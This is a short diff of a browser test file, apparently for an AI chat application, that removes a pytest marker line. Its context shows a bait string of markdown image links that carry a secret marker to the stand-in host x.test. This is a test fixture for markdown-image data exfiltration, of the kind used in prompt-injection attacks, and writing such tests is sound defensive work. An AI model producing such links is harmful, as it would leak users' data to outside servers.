@@ -10,8 +10,6 @@ from playwright.sync_api import BrowserContext, Page, Request, expect
 from tests.browser.conftest import Connected
 from tests.browser.pages import ask, sign_in, stage, wait_for_reply
 
-pytestmark = [pytest.mark.browser, pytest.mark.timeout(240), pytest.mark.xdist_group("browser")]
-
 MARK = "gullsecret"
 BAIT = f"""The gull says: ![seen](http://x.test/?q={MARK}) and ![](//x.test/{MARK}.png) and ![local](/health/?q={MARK}).
 
